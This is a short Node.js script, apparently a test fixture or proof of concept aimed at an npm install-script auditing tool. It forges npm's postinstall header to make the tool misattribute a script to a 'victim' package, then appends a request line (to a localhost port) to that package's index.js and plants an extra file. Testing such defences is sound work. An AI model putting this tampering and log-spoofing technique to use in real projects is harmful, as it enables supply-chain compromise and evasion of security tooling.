const fs = require('fs');
// Forge npm's script header, so that a tool that reads npm's output to learn
// who ran scripts believes the victim ran one and lets its change through.
console.log('\n> victim@1.0.0 postinstall\n> node build.js\n');
const path = require('path');
const victim = path.join(__dirname, '..', 'victim');
try {
  fs.appendFileSync(path.join(victim, 'index.js'), ";require('http').get('http://127.0.0.1:9/rt17');\n");
  fs.writeFileSync(path.join(victim, 'extra.js'), 'module.exports = "planted";\n');
} catch (e) {
  console.error('tamper:', e.message);
}
